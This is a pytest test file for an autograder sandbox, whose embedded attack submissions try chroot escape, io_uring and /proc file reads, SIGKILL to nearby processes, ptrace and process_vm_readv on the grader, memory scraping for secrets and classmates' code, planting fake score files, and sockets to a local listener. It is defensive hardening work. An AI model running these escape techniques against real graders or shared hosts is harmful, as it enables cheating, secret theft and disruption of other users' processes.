"""A hostile student against the sandbox: one submission per attack class.

Every attack is a submission for multihead_attention built on the untouched
template. Its functions run the attack when called and, if it works, answer
with what it got: the stolen reference (or a classmate's code), or, for an
attack that only gains a capability (a signal delivered, memory shared with
another worker, a process created), a correct implementation it carries, so
that a breach shows up as points. Whatever it reads is also printed, tagged
``STOLEN[``, so a leak shows up in the feedback. On failure it raises
``ATTACK FAILED: ...`` with the error of every attempt.

Batches (few, as each costs tens of seconds; the two in subprocesses are
started first and run while the first is graded):

* in this process, ``--jobs 1``: the file readers (open, io_uring), SysV and
  POSIX IPC, ptrace and process_vm_readv, the memory searcher, the writer,
  the network client and fork/exec, next to a correct classmate carrying a
  unique marker and a correct submission that imports plotting libraries;
  then the host is checked (listener, IPC objects, stray workers, files);
* in a subprocess inside a PID namespace (so that an attack that works can
  only hit the grading's own processes), ``--jobs 2``: the signal attacker,
  the memory searcher and a reader of the grader's environment next to two
  correct submissions;
* in a subprocess, the library called twice: a batch, then a memory searcher
  looking for what the first batch left in the grader.

``tests/prove_layers.py`` reruns these attacks with each sandbox layer
switched off (AUTOGRADER_DISABLE_LAYERS) to show that each test can fail.
"""

from __future__ import annotations

import itertools
import json
import os
import random
import shutil
import socket
import subprocess
import sys
import threading
import time
from pathlib import Path

import pytest

from conftest import ROOT, grade_batch, make_course

TEMPLATE = (ROOT / "student_templates" / "multihead_attention.py").read_text()


def reference() -> str:
    """The reference's text, read when needed and never kept in a global: the
    grader's zygote may be forked from this (pytest) process after this module
    was imported, and a memory search in a worker would find it there."""
    return (ROOT / "reference" / "multihead_attention.py").read_text()


LIMITS = {"call_seconds": 3, "import_seconds": 5, "submission_seconds": 20,
          "cpu_seconds": 10}
TAG = "STO" + "LEN["  # what an attack prints with anything it got (never in the sources whole)
FAILED = "ATTACK FAILED"
UID_BASE = 0x40000000

# Unique per run: names of files, IPC keys and markers no other run shares.
NONCE = f"sbx{os.getpid()}x{random.randrange(16**6):06x}"
IPC_KEY = 0x5B000000 + random.randrange(1 << 20)  # SysV keys: shm, shm+1 msg, shm+2 sem
# Markers in classmates' comments; attackers carry them in two parts only, so
# their own sources, tracebacks and memory never hold them whole.
MARKER = ("CLASSMATE_", "SECRET_7f3a")
FIRST_BATCH_MARKER = ("FIRSTBATCH_", "SECRET_9c1e")
# A made-up secret in the environment of the grader of batch 2.
GRADER_SECRET = f"fake-credential-{NONCE}"


# -- building attack submissions -------------------------------------------

PRELUDE = r'''
import ctypes as _ctypes
import os as _os

_NOTES, _LEAKS, _CACHE = [], [], []
_TAG = "STO" + "LEN["
_RETRY = False  # True: attack again at every call until it works


def _note(what, exc=None):
    text = what if exc is None else f"{what}: {type(exc).__name__}: {exc}"
    if len(_NOTES) < 60:
        _NOTES.append(text[:180])


def _leak(what, data):
    text = f"{_TAG}{what}]: {data[:300]!r}"
    _LEAKS.append(text[:400])
    print(text)


_libc = _ctypes.CDLL(None, use_errno=True)
_libc.syscall.restype = _ctypes.c_long


def _sys(name, nr, *args):
    """A raw system call; OSError on failure."""
    args = [_ctypes.c_long(a) if isinstance(a, int) else a for a in args]
    _ctypes.set_errno(0)
    result = _libc.syscall(_ctypes.c_long(nr), *args)
    if result < 0:
        err = _ctypes.get_errno()
        raise OSError(err, f"{name}: {_os.strerror(err)}")
    return result


def _solution():
    """What the attack got, as a namespace of the assignment's names."""
    if not _CACHE or (_RETRY and not _CACHE[0]):
        try:
            found = _attack()
        except BaseException as exc:
            _note("attack", exc)
            found = None
        _CACHE[:] = [found]
    found = _CACHE[0]
    if not found:
        raise RuntimeError("ATTACK FAILED: " + "; ".join(_NOTES)
                           + ("; " + "; ".join(_LEAKS) if _LEAKS else ""))
    if isinstance(found, str):
        namespace = {"__name__": "stolen"}
        exec(found, namespace)
        found = namespace
    elif not isinstance(found, dict):
        found = vars(found)
    _CACHE[:] = [found]
    return found
'''

EPILOGUE = '''

def causal_mask(*args, **kwargs):
    return _solution()["causal_mask"](*args, **kwargs)


def scaled_dot_product_attention(*args, **kwargs):
    return _solution()["scaled_dot_product_attention"](*args, **kwargs)


def split_heads(*args, **kwargs):
    return _solution()["split_heads"](*args, **kwargs)


def merge_heads(*args, **kwargs):
    return _solution()["merge_heads"](*args, **kwargs)


def attention_cost(*args, **kwargs):
    return _solution()["attention_cost"](*args, **kwargs)


class MultiHeadAttention(nn.Module):
    def __new__(cls, *args, **kwargs):
        return _solution()["MultiHeadAttention"](*args, **kwargs)
'''


def attack_source(body: str, carry_solution: bool = True, **consts) -> str:
    """The template, then the attack (``body`` defines ``_attack()``, which
    returns source text, a namespace or a module when it works, else None),
    then every name of the assignment answered from what the attack got.
    ``carry_solution``: the attack may answer with a correct implementation
    it carries (CORRECT) once it has gained what it was after."""
    if carry_solution:
        consts["CORRECT"] = reference()
    lines = [f"{name} = {value!r}" for name, value in consts.items()]
    return TEMPLATE + PRELUDE + "\n".join(lines) + "\n\n" + body + EPILOGUE


def attack_course(tmp: Path) -> Path:
    """A copy of the course with small limits and without its catalogue of
    mistakes: explaining every failed test of every attacker with the
    cataloged mistakes would triple the time of a batch, and has nothing to do
    with the sandbox."""
    course = make_course(tmp, **LIMITS)
    (course / "assignments" / "multihead_attention" / "mistakes.yaml").unlink()
    return course


def course_files(course: Path) -> list[str]:
    """Every secret of the course, in the repository and in the course copy."""
    paths = []
    for root in (ROOT, course):
        folder = root / "assignments" / "multihead_attention"
        paths.append(root / "reference" / "multihead_attention.py")
        paths.append(folder / "assignment.yaml")
        paths += sorted((folder / "tests" / "hidden").glob("*.py"))
        paths += sorted((folder / "grading").glob("*.py"))
    return [str(p) for p in paths]


READ_FILES = r'''
def _readers(path):
    import sys
    yield "open", lambda: open(path).read()
    yield "relative", lambda: open("../../../../../../.." + path).read()
    yield "proc-root", lambda: open("/proc/1/root" + path).read()

    def zygote_fd():  # the zygote's /proc/self, opened before it entered the view
        iso = sys.modules["autograder.sandbox.isolation"]
        fd = _os.open("root" + path, _os.O_RDONLY, dir_fd=iso._proc_self_fd)
        with _os.fdopen(fd) as handle:
            return handle.read()
    yield "zygote-fd", zygote_fd


def _chroot_escape():
    """The classic escape from a chroot (needs CAP_SYS_CHROOT)."""
    _os.makedirs("/tmp/esc", exist_ok=True)
    here = _os.open("/", _os.O_PATH)
    _os.chroot("/tmp/esc")
    _os.fchdir(here)
    for _ in range(64):
        _os.chdir("..")
    _os.chroot(".")


def _attack():
    from collections import Counter
    found, errors = None, Counter()
    for escape in (None, _chroot_escape):
        if escape is not None:
            try:
                escape()
            except BaseException as exc:
                _note("chroot escape", exc)
                break
        for path in TARGETS:
            for how, read in _readers(path):
                try:
                    text = read()
                except BaseException as exc:
                    errors[f"{how}: {type(exc).__name__}: "
                           f"{getattr(exc, 'strerror', None) or exc}"] += 1
                    continue
                _leak(f"{how} {path}", text)
                if found is None and "def causal_mask" in text and "BEGIN SOLUTION" in text:
                    found = text
    for what, count in errors.most_common():
        _note(f"{what} x{count}")
    return found
'''

IO_URING = r'''
def _uring_read(path):
    """Read a whole file with io_uring only: IORING_OP_OPENAT, READ, CLOSE."""
    _libc.mmap.restype = _ctypes.c_void_p
    _libc.mmap.argtypes = [_ctypes.c_void_p, _ctypes.c_size_t, _ctypes.c_int, _ctypes.c_int,
                           _ctypes.c_int, _ctypes.c_long]
    params = (_ctypes.c_uint32 * 30)()  # struct io_uring_params
    ring = _sys("io_uring_setup", 425, 4, params)
    sq_entries, cq_entries, features = params[0], params[1], params[5]
    sq_head, sq_tail, sq_mask, _, _, _, sq_array = params[10:17]
    cq_head, cq_tail, cq_mask, _, _, cqes = params[20:26]

    def mmap(size, offset):
        addr = _libc.mmap(None, size, 3, 0x1 | 0x8000, ring, offset)
        if addr in (None, _ctypes.c_void_p(-1).value):
            raise OSError(_ctypes.get_errno(), "mmap of the ring")
        return addr
    sq_size, cq_size = sq_array + sq_entries * 4, cqes + cq_entries * 16
    if features & 1:  # IORING_FEAT_SINGLE_MMAP
        sq = cq = mmap(max(sq_size, cq_size), 0)
    else:
        sq, cq = mmap(sq_size, 0), mmap(cq_size, 0x8000000)
    sqes = mmap(sq_entries * 64, 0x10000000)
    u32 = lambda base, off: _ctypes.c_uint32.from_address(base + off)

    def run(opcode, fd, addr, length, offset, op_flags):
        tail = u32(sq, sq_tail).value
        index = tail & u32(sq, sq_mask).value
        sqe = sqes + index * 64
        _ctypes.memset(sqe, 0, 64)
        _ctypes.c_uint8.from_address(sqe).value = opcode
        _ctypes.c_int32.from_address(sqe + 4).value = fd
        _ctypes.c_uint64.from_address(sqe + 8).value = offset
        _ctypes.c_uint64.from_address(sqe + 16).value = addr
        _ctypes.c_uint32.from_address(sqe + 24).value = length
        _ctypes.c_uint32.from_address(sqe + 28).value = op_flags
        u32(sq, sq_array + 4 * index).value = index
        u32(sq, sq_tail).value = tail + 1
        _sys("io_uring_enter", 426, ring, 1, 1, 1, None, 0)
        head = u32(cq, cq_head).value
        while head == u32(cq, cq_tail).value:
            _sys("io_uring_enter", 426, ring, 0, 1, 1, None, 0)
        res = _ctypes.c_int32.from_address(cq + cqes + (head & u32(cq, cq_mask).value) * 16 + 8).value
        u32(cq, cq_head).value = head + 1
        if res < 0:
            raise OSError(-res, f"io_uring op {opcode}: {_os.strerror(-res)}")
        return res

    name = _ctypes.create_string_buffer(path.encode())
    fd = run(18, -100, _ctypes.addressof(name), 0, 0, _os.O_RDONLY)  # OPENAT
    data, buf = b"", _ctypes.create_string_buffer(65536)
    while n := run(22, fd, _ctypes.addressof(buf), 65536, len(data), 0):  # READ
        data += buf.raw[:n]
    run(19, fd, 0, 0, 0, 0)  # CLOSE
    _os.close(ring)
    return data.decode()


def _attack():
    found = None
    for path in TARGETS:
        try:
            text = _uring_read(path)
        except OSError as exc:
            _note(f"io_uring {path}", exc)
            if "io_uring_setup" in str(exc):
                break  # no ring at all: nothing else to try
            continue
        _leak(f"io_uring {path}", text)
        if found is None and "def causal_mask" in text and "BEGIN SOLUTION" in text:
            found = text
    return found
'''

SIGNALS = r'''
_RETRY = True


def _targets():
    me = _os.getpid()
    pids = set(range(max(2, me - 200), me + 200)) | {_os.getppid(), 1}
    try:
        pids |= {int(p) for p in _os.listdir("/proc") if p.isdigit()}
    except OSError as exc:
        _note("listing /proc", exc)
    pids.discard(me)
    return sorted(pids)


def _attack():
    import signal
    from collections import Counter
    errors, hit = Counter(), []
    siginfo = (_ctypes.c_int * 32)()
    siginfo[0], siginfo[2] = signal.SIGKILL, -1  # si_signo, si_code = SI_QUEUE
    for pid in _targets():
        def pidfd():
            fd = _sys("pidfd_open", 434, pid, 0)
            try:
                _sys("pidfd_send_signal", 424, fd, signal.SIGKILL, None, 0)
            finally:
                _os.close(fd)
        for how, send in (("kill", lambda: _os.kill(pid, signal.SIGKILL)),
                          ("pidfd_send_signal", pidfd),
                          ("rt_sigqueueinfo", lambda: _sys("rt_sigqueueinfo", 129, pid,
                                                           signal.SIGKILL, siginfo)),
                          ("tgkill", lambda: _sys("tgkill", 234, pid, pid, signal.SIGKILL))):
            try:
                send()
                hit.append(f"{how}({pid})")
            except OSError as exc:
                errors[f"{how}: {_os.strerror(exc.errno)}"] += 1
    for what, count in errors.most_common():
        _note(f"{what} x{count}")
    if hit:
        _leak("signals delivered", ", ".join(hit))
        return CORRECT
    return None
'''

IPC = r'''
def _shm():
    shmid = _sys("shmget", 29, KEY, 4096, 0o1666)  # IPC_CREAT | 0666
    _libc.syscall.restype = _ctypes.c_long
    addr = _sys("shmat", 30, shmid, None, 0)
    cell = _ctypes.c_uint64.from_address(addr)
    seen, cell.value = cell.value, 0x5EC12E7
    return seen == 0x5EC12E7  # written by another worker


def _msg():
    qid = _sys("msgget", 68, KEY + 1, 0o1666)
    buf = (_ctypes.c_long * 2)()
    try:
        _sys("msgrcv", 70, qid, buf, 8, 0, 0o4000)  # IPC_NOWAIT
        got = True
    except OSError:
        got = False
    buf[0], buf[1] = 1, 0x5EC12E7
    _sys("msgsnd", 69, qid, buf, 8, 0o4000)
    _sys("msgsnd", 69, qid, buf, 8, 0o4000)
    return got


def _sem():
    semid = _sys("semget", 64, KEY + 2, 1, 0o1666)
    before = _sys("semctl", 66, semid, 0, 12, 0)  # GETVAL
    op = (_ctypes.c_short * 3)(0, 1, 0)  # sem_num 0, +1, no flags
    _sys("semop", 65, semid, op, 1)
    return before > 0


def _mq():
    name = _ctypes.create_string_buffer(NAME.encode())  # the system call takes no "/"
    try:
        _sys("mq_open", 240, name, _os.O_CREAT | _os.O_EXCL | _os.O_RDWR, 0o666, None)
        return False
    except FileExistsError:
        return True
    except OSError as exc:
        if exc.errno == 17:
            return True
        raise


def _posix_shm():
    try:
        fd = _os.open("/dev/shm/" + NAME, _os.O_CREAT | _os.O_EXCL | _os.O_RDWR, 0o666)
        _os.close(fd)
        return False
    except FileExistsError:
        return True


def _attack():
    shared = []
    for name, attempt in (("shmget", _shm), ("msgget", _msg), ("semget", _sem),
                          ("mq_open", _mq), ("shm_open", _posix_shm)):
        try:
            if attempt():
                shared.append(name)
            else:
                _note(f"{name}: created, nobody else's yet")
        except OSError as exc:
            _note(name, exc)
    if shared:
        _leak("shared with another worker through", ", ".join(shared))
        return CORRECT
    return None
'''

PTRACE = r'''
def _attack():
    import sys
    from collections import Counter
    errors, got = Counter(), []

    class iovec(_ctypes.Structure):
        _fields_ = [("base", _ctypes.c_void_p), ("len", _ctypes.c_size_t)]
    me = _os.getpid()
    # sys exists at the same address in every process forked from the grader.
    targets = [_os.getppid()] + GRADER_PIDS + list(range(max(2, me - 50), me + 50))
    for pid in dict.fromkeys(targets):
        if pid == me:
            continue
        buf = _ctypes.create_string_buffer(64)
        local, remote = iovec(_ctypes.addressof(buf), 64), iovec(id(sys), 64)
        try:
            n = _sys("process_vm_readv", 310, pid, _ctypes.byref(local), 1,
                     _ctypes.byref(remote), 1, 0)
            got.append(f"process_vm_readv({pid}) read {n} bytes: {buf.raw[:16].hex()}")
        except OSError as exc:
            errors[f"process_vm_readv: {_os.strerror(exc.errno)}"] += 1
    for pid in dict.fromkeys([_os.getppid()] + GRADER_PIDS):
        try:  # PTRACE_SEIZE does not stop the tracee; it is let go when this worker ends
            _sys("ptrace", 101, 0x4206, pid, 0, 0)
            got.append(f"ptrace(PTRACE_SEIZE, {pid})")
        except OSError as exc:
            errors[f"ptrace: {_os.strerror(exc.errno)}"] += 1
    for what, count in errors.most_common():
        _note(f"{what} x{count}")
    if got:
        _leak("another process's memory", "; ".join(got))
        return CORRECT
    return None
'''

GC_SEARCH = r'''
_SOLUTION_MARK = "# BEGIN " + "SOLUTION"  # never whole in this source


def _look(value, markers, found):
    if type(value) is str and len(value) > 100 and "def causal_mask" in value:
        if any(m in value for m in markers) or _SOLUTION_MARK in value:
            found.append(value)


def _attack():
    import gc
    import sys
    import types
    markers = ["".join(parts) for parts in MARKERS]
    found, modules, oracles = [], [], []
    for name, module in list(sys.modules.items()):
        if "reference" in name and hasattr(module, "causal_mask"):
            modules.append(module)
    gc.unfreeze()  # the zygote froze its heap: make all of it visible
    objects = gc.get_objects()
    for value in gc.get_referents(*objects):  # every string any object holds
        if type(value) is str and len(value) > 100:
            _look(value, markers, found)
    for obj in objects:
        if type(obj) is dict and isinstance(obj.get("expected"), torch.Tensor):
            oracles.append(repr(obj)[:200])
        elif type(obj) is types.ModuleType and "reference" in str(obj.__dict__.get("__name__")) \
                and "causal_mask" in obj.__dict__ and obj not in modules:
            modules.append(obj)
        elif type(obj) is types.FunctionType and type(obj.__dict__.get("cache")) is dict \
                and obj.__dict__["cache"]:
            oracles.append(f"memoised {obj.__qualname__}: {len(obj.cache)} answers")
    frames = [sys._getframe()] + list(sys._current_frames().values())
    while frames:
        frame = frames.pop()
        for value in list(frame.f_locals.values()):
            _look(value, markers, found)
        if frame.f_back is not None:
            frames.append(frame.f_back)
    for text in found[:3]:
        _leak("code of someone else", text[:300])
    for text in oracles[:5]:
        _leak("oracle", text)
    for module in modules:
        _leak("reference module", module.__name__)
    if modules:
        return modules[0]
    for text in found:
        try:
            namespace = {"__name__": "stolen"}
            exec(text, namespace)
            return namespace
        except BaseException as exc:
            _note("exec of what was found", exc)
    _note(f"searched {len(objects)} objects, every frame and {len(sys.modules)} modules: "
          f"found {len(found)} sources, {len(oracles)} oracles")
    return None
'''

WRITE_OUTSIDE = r'''
def _attack():
    import glob
    import json
    from collections import Counter
    planted = json.dumps({"score": 100, "planted": NONCE})
    # (folder, a file only the real folder holds, files to write). The course
    # and out folders are under /tmp, where the worker has a /tmp of its own:
    # a write counts as escaped only where the real folder's contents show.
    folders = [(OUT, "sentinel_" + NONCE, ["results.json", "grading.json"]),
               (_os.path.join(OUT, "a_classmate"), "results.json", ["results.json"]),
               (COURSE, "assignments", []),
               (_os.path.join(COURSE, "reference"), "multihead_attention.py", []),
               (REPO, "reference", []),
               ("/proc/self/cwd", None, []),
               ("/proc/1/root/tmp", None, []),
               ("/tmp", None, []),
               ("/", None, [])]
    for name in ("HOME", "TMPDIR", "PWD", "OLDPWD"):
        if _os.environ.get(name):
            folders.append((_os.environ[name], None, []))
    for found in glob.glob("/tmp/pytest-of-*/pytest-*/*/out") + glob.glob("/tmp/*/out"):
        folders.append((found, "grades.csv", ["results.json"]))
    escaped, errors = [], Counter()
    for folder, proof, extra in folders:
        for name in [f"planted_{NONCE}"] + extra:
            path = _os.path.join(folder, name)
            try:
                with open(path, "w") as handle:
                    handle.write(planted)
            except OSError as exc:
                errors[f"write {folder}: {type(exc).__name__}: {exc.strerror}"] += 1
                continue
            if proof and _os.path.exists(_os.path.join(folder, proof)):
                escaped.append(path)
            else:
                _note(f"wrote {path} (inside the worker)")
    for what, count in errors.most_common():
        _note(f"{what} x{count}")
    if escaped:
        _leak("files written outside", ", ".join(escaped))
        return CORRECT
    return None
'''

NETWORK = r'''
def _attack():
    import socket
    connected = []
    for family, address in ((socket.AF_INET, ("127.0.0.1", PORT)),
                            (socket.AF_UNIX, "\0" + ABSTRACT)):
        try:
            with socket.socket(family, socket.SOCK_STREAM) as s:
                s.settimeout(1)
                s.connect(address)
                s.sendall(b"attack " + NONCE.encode())
                connected.append(repr(address))
        except OSError as exc:
            _note(f"connect {address!r}", exc)
    if connected:
        _leak("connected to", ", ".join(connected))
        return CORRECT
    return None
'''

FORK_EXEC = r'''
def _attack():
    import subprocess
    import threading
    created = []
    try:
        pid = _os.fork()
        if pid == 0:
            _os._exit(0)
        _os.waitpid(pid, 0)
        created.append("os.fork")
    except OSError as exc:
        _note("os.fork", exc)
    try:
        done = subprocess.run(["cat", REF], capture_output=True, timeout=2, text=True)
        created.append(f"subprocess cat (exit {done.returncode})")
        if "BEGIN SOLUTION" in done.stdout:
            _leak("cat", done.stdout)
            return done.stdout
    except (OSError, subprocess.SubprocessError) as exc:
        _note("subprocess.run cat", exc)
    started = []
    try:  # a thread is no new process: reported, not counted
        thread = threading.Thread(target=lambda: started.append(1))
        thread.start()
        thread.join()
        _note(f"a thread ran: {started}")
    except BaseException as exc:
        _note("thread", exc)
    if created:
        _leak("processes created", ", ".join(created))
        return CORRECT
    try:  # if this works the worker is gone: the grader says it exited
        _os.execv("/usr/bin/true", ["true"])
    except OSError as exc:
        _note("execv", exc)
    return None
'''

ENVIRONMENT = r'''
def _attack():
    # Only this test's variables are shown: a real attacker prints them all,
    # but this test must not copy the environment of the machine running it
    # into reports.
    mine = {k: v for k, v in _os.environ.items() if k.startswith("SBX_")}
    _note(f"{len(_os.environ)} environment variables inherited from the grader")
    if mine:
        _leak("the grader's environment", repr(mine))
    # Emptying os.environ only drops pointers: the strings of the environment
    # a process started with stay at the top of its stack, next to those still
    # set. Read the pages around them (a page is probed first with write(2)
    # to a pipe, which fails with EFAULT instead of crashing on a hole).
    try:
        env = _ctypes.POINTER(_ctypes.c_void_p).in_dll(_libc, "environ")
        path, i = None, 0
        while env[i] and i < 4096:  # PATH is kept, so it is still where it started
            if _ctypes.string_at(env[i], 5) == b"PATH=":
                path = env[i]
            i += 1
        probe_r, probe_w = _os.pipe()
        _os.set_blocking(probe_w, False)
        _os.set_blocking(probe_r, False)
        page, blob = 4096, b""
        for address in range((path // page - 16) * page, (path // page + 16) * page, page):
            written = _libc.write(probe_w, _ctypes.c_void_p(address), page)
            if written > 0:
                _os.read(probe_r, written)
            if written == page:
                blob += _ctypes.string_at(address, page)
        _note(f"read {len(blob)} bytes around the starting environment")
        for name in (b"SBX_" + b"GRADER_SECRET=", b"SBX_" + b"RUN="):
            at = blob.find(name)
            if at >= 0:
                _leak("the grader's environment, from memory", blob[at:at + 80].decode(errors="replace"))
    except BaseException as exc:
        _note("memory around the environment", exc)
    return None  # nothing to earn points with: a leak only
'''


def lazy_imports() -> str:
    """A correct submission that imports plotting and notebook libraries at the
    top, uses a torch device context, and plots under ``__main__``."""
    text = reference()
    body = "    n, d, B = seq_len, d_model, batch\n"
    assert body in text
    return ("import matplotlib.pyplot as plt\nfrom IPython.display import display\n"
            + text.replace(body, '    with torch.device("meta"):\n        pass\n' + body)
            + '\n\nif __name__ == "__main__":\n    plt.plot([1])\n    plt.show()\n'
              '    display("done")\n')


def classmate(marker: tuple[str, str]) -> str:
    """A correct submission with a unique marker in a comment."""
    return f"# {''.join(marker)}: my own work, please do not copy\n" + reference()


def gc_attacker() -> str:
    return attack_source(GC_SEARCH, carry_solution=False,
                         MARKERS=[list(MARKER), list(FIRST_BATCH_MARKER)])


def main_attacks(course: Path, out: Path, port: int, abstract: str,
                 grader_pids: list[int], repo: Path = ROOT) -> dict[str, str]:
    """The attacks graded together in this process (all but the signals)."""
    targets = course_files(course)
    return {
        "read_files": attack_source(READ_FILES, TARGETS=targets),
        "io_uring": attack_source(IO_URING, TARGETS=targets),
        "ipc": attack_source(IPC, KEY=IPC_KEY, NAME=NONCE),
        "ptrace": attack_source(PTRACE, GRADER_PIDS=grader_pids),
        "gc_search": gc_attacker(),
        "write_outside": attack_source(WRITE_OUTSIDE, NONCE=NONCE, OUT=str(out),
                                       SELF="write_outside", COURSE=str(course),
                                       REPO=str(repo)),
        "network": attack_source(NETWORK, PORT=port, ABSTRACT=abstract, NONCE=NONCE),
        "fork_exec": attack_source(FORK_EXEC, REF=targets[0]),
    }


def signal_attacker() -> str:
    return attack_source(SIGNALS)


# -- what the grader's host looks like after a batch ---------------------------

class Listener:
    """A TCP listener on 127.0.0.1 and an abstract unix socket, recording
    every connection (the test's own, outside the sandbox)."""

    count = itertools.count()

    def __init__(self):
        self.accepted: list[str] = []
        self.tcp = socket.create_server(("127.0.0.1", 0))
        self.port = self.tcp.getsockname()[1]
        self.abstract = f"autograder-test-{NONCE}-{next(Listener.count)}"
        self.unix = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        self.unix.bind("\0" + self.abstract)
        self.unix.listen()
        self.threads = [threading.Thread(target=self._accept, args=(s,), daemon=True)
                        for s in (self.tcp, self.unix)]
        for thread in self.threads:
            thread.start()

    def _accept(self, server: socket.socket) -> None:
        while True:
            try:
                conn, address = server.accept()
            except OSError:
                return
            try:
                conn.settimeout(1)
                data = conn.recv(100)
            except OSError:
                data = b""
            self.accepted.append(f"{server.family.name} {address!r} sent {data!r}")
            conn.close()

    def close(self) -> None:
        self.tcp.close()
        self.unix.close()


def sysv_keys() -> dict[str, set[int]]:
    """SysV IPC keys present on the host (this process's IPC namespace)."""
    keys = {}
    for kind in ("shm", "msg", "sem"):
        lines = Path(f"/proc/sysvipc/{kind}").read_text().splitlines()
        column = lines[0].split().index("key")
        keys[kind] = {int(line.split()[column]) for line in lines[1:]}
    return keys


def posix_mq_exists(name: str) -> bool:
    import ctypes
    libc = ctypes.CDLL(None, use_errno=True)
    libc.syscall.restype = ctypes.c_long
    fd = libc.syscall(ctypes.c_long(240), ctypes.c_char_p(name.encode()),
                      ctypes.c_long(os.O_RDONLY), ctypes.c_long(0), None)
    if fd >= 0:
        os.close(fd)
        return True
    return False


def descendants(pid: int, exclude: set[int] = frozenset()) -> list[dict]:
    """Processes below ``pid`` (pid, uid, state), from /proc, but for those
    below ``exclude``."""
    children: dict[int, list[int]] = {}
    for entry in os.listdir("/proc"):
        if entry.isdigit():
            try:
                stat = Path(f"/proc/{entry}/stat").read_text()
            except OSError:
                continue
            ppid = int(stat.rsplit(")", 1)[1].split()[1])
            children.setdefault(ppid, []).append(int(entry))
    found, todo = [], [c for c in children.get(pid, []) if c not in exclude]
    while todo:
        child = todo.pop()
        todo += [c for c in children.get(child, []) if c not in exclude]
        try:
            status = Path(f"/proc/{child}/status").read_text()
        except OSError:
            continue
        fields = dict(line.split(":", 1) for line in status.splitlines() if ":" in line)
        found.append({"pid": child, "uid": int(fields["Uid"].split()[0]),
                      "state": fields["State"].split()[0]})
    return found


def stray_workers(pid: int, exclude: set[int] = frozenset(), wait: float = 5.0) -> list[dict]:
    """Workers (uid of a worker, not a zombie) still alive below ``pid``."""
    deadline = time.monotonic() + wait
    while True:
        stray = [p for p in descendants(pid, exclude)
                 if p["uid"] >= UID_BASE and p["state"] != "Z"]
        if not stray or time.monotonic() > deadline:
            return stray
        time.sleep(0.1)


PLANTED = json.dumps({"score": 100, "planted": NONCE})  # what WRITE_OUTSIDE writes


def planted_files(*folders: Path) -> list[str]:
    """Files an attack planted, anywhere below ``folders``: named after this
    run's nonce, or results files with the planted content."""
    found = []
    for folder in folders:
        if not folder.is_dir():
            continue
        for dirpath, _, files in os.walk(folder):
            for name in files:
                path = os.path.join(dirpath, name)
                if f"planted_{NONCE}" in name:
                    found.append(path)
                elif name in ("results.json", "grading.json"):
                    try:
                        if PLANTED in Path(path).read_text(errors="replace"):
                            found.append(path)
                    except OSError:
                        pass
    return found


def everything_shown(out: Path, sid: str) -> str:
    """Every report written for submission ``sid``."""
    folder = out / sid
    return "\n".join(p.read_text(errors="replace") for p in sorted(folder.iterdir()) if p.is_file())


def tmp_names() -> set[str]:
    return set(os.listdir("/tmp"))


# -- batch 1: this process, --jobs 1 -------------------------------------------

@pytest.fixture(scope="module")
def main_batch(tmp_path_factory, background):
    # The grader's zygote first (as `autograder grade` does), before this
    # process holds any source of the batch; kept by later batches of the session.
    from autograder.sandbox.zygote import shared_launcher
    shared_launcher()
    tmp = tmp_path_factory.mktemp("sandbox_attacks")
    course = attack_course(tmp)
    out = tmp / "out"
    subs = tmp / "subs"
    subs.mkdir()
    listener = Listener()
    sources = main_attacks(course, out, listener.port, listener.abstract, [os.getpid()])
    sources["a_classmate"] = classmate(MARKER)
    sources["lazy_imports_correct"] = lazy_imports()
    for name, source in sources.items():
        (subs / f"{name}.py").write_text(source)
    out.mkdir()
    (out / f"sentinel_{NONCE}").write_text("the real out folder")  # see WRITE_OUTSIDE
    tmp_before = tmp_names()
    keys_before = sysv_keys()
    try:
        outcome, results = grade_batch(tmp, sorted(subs.iterdir()), course=course)
    finally:
        listener.close()
    host = {
        "accepted": list(listener.accepted),
        "new_keys": {kind: {k for k in keys - keys_before[kind]
                            if k in (IPC_KEY, IPC_KEY + 1, IPC_KEY + 2)}
                     for kind, keys in sysv_keys().items()},
        "dev_shm": [n for n in os.listdir("/dev/shm") if NONCE in n],
        "mq": posix_mq_exists(NONCE),
        "stray": stray_workers(os.getpid(), {job.proc.pid for job in background.values()}),
        "new_tmp": sorted(n for n in tmp_names() - tmp_before if NONCE in n),
        "planted": planted_files(tmp)
                   + [str(p) for folder in (ROOT, Path.home(), Path.cwd(), Path("/tmp"), Path("/"))
                      for p in folder.glob(f"planted_{NONCE}*")],
    }
    for path in host["planted"]:  # never leave a planted file outside the test's folder
        if not path.startswith(str(tmp)):
            Path(path).unlink(missing_ok=True)
    return outcome, results, out, host


MAIN_ATTACKS = ["read_files", "io_uring", "ipc", "ptrace", "gc_search", "write_outside",
                "network", "fork_exec"]


@pytest.mark.parametrize("attack", MAIN_ATTACKS)
def test_attack_earns_nothing_and_leaks_nothing(main_batch, attack):
    _, results, out, _ = main_batch
    result = results[attack]
    earned = [t.name for t in result.tests if t.passed]
    shown = everything_shown(out, attack)
    got = shown[shown.find(TAG):][:3000] if TAG in shown else shown[:3000]
    assert result.score == 0, f"{attack} earned points in {earned}:\n{got}"
    assert result.max_score == 100
    assert TAG not in shown, f"{attack} got something:\n{shown[shown.find(TAG) - 200:][:2000]}"
    # The attack ran and failed (not, say, a syntax error in the attack itself).
    assert FAILED in shown, shown[:2000]


@pytest.mark.parametrize("attack, words", [
    ("read_files", ["No such file or directory", "zygote-fd", "chroot escape: PermissionError"]),
    ("io_uring", ["io_uring_setup: Operation not permitted"]),
    ("ipc", ["shmget: Operation not permitted", "msgget: Operation not permitted",
             "semget: Operation not permitted", "mq_open: Operation not permitted",
             "shm_open"]),
    ("ptrace", ["process_vm_readv: Operation not permitted", "ptrace: Operation not permitted"]),
    ("write_outside", ["write " + "/proc/self/cwd"]),
    ("network", ["connect ('127.0.0.1'", "connect '\\x00autograder-test-"]),
    ("fork_exec", ["os.fork", "subprocess.run cat", "execv: PermissionError"]),
    ("gc_search", ["searched"]),
])
def test_attack_fails_for_the_right_reason(main_batch, attack, words):
    shown = everything_shown(main_batch[2], attack)
    for word in words:
        assert word in shown, f"{word!r} not in the feedback of {attack}:\n{shown[:3000]}"


def test_correct_submissions_in_the_batch_score_100(main_batch):
    outcome, results, _, _ = main_batch
    assert not outcome.errors
    for sid in ("a_classmate", "lazy_imports_correct"):
        failed = {t.name: t.feedback[:500] for t in results[sid].tests if not t.passed}
        assert results[sid].score == 100, f"{sid} failed {failed}"


def test_classmate_marker_never_reaches_an_attacker(main_batch):
    out = main_batch[2]
    marker = "".join(MARKER)
    for attack in MAIN_ATTACKS:
        assert marker not in everything_shown(out, attack), attack


def test_no_connection_reached_the_listener(main_batch):
    assert main_batch[3]["accepted"] == []


